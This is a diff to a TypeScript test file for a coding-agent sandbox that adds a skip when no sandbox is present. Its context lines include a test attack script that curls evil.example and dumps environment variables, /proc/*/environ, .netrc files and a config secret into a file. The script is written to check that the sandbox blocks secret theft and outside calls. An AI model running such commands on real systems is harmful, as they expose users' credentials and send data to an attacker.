@@ -3,7 +3,7 @@ import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ClaudeWorld } from '../../../test/support/claude-world.ts';
-import { needSandbox } from '../../../test/support/needs-sandbox.ts';
+import { isWithoutSandbox, needSandbox } from '../../../test/support/needs-sandbox.ts';
 import { answerWith, useTool } from '../../../test/support/scripted-provider.ts';
 import { rejectedCode } from '../../../test/support/thrown-code.ts';
 import type { CodingReport, CodingTools } from '../../ports/coding-agent.ts';
@@ -14,7 +14,7 @@ let world: ClaudeWorld;
 let sandbox: Sandbox;
 beforeEach(async () => {
   world = await new ClaudeWorld().open();
-  sandbox = await needSandbox();
+  if (!isWithoutSandbox) sandbox = await needSandbox();
 });
 afterEach(() => world.close());
 
@@ -49,7 +49,7 @@ curl -sS -m 5 https://evil.example/
 { env; cat /proc/*/environ; cat ~/.netrc "$1"/.netrc "$1"/config/secret; ls "$1"; echo "home $HOME $CLAUDE_CONFIG_DIR"; } > out.txt 2>&1
 `;
 
-describe('in a sandbox', () => {
+describe.skipIf(isWithoutSandbox)('in a sandbox', () => {
   it('a command of the agent finds no secret and reaches nobody else', async () => {
     writeFileSync(join(world.worktree, 'attack.sh'), script, { mode: 0o755 });
     writeFileSync(join(world.folder, '.netrc'), 'netrc-canary');
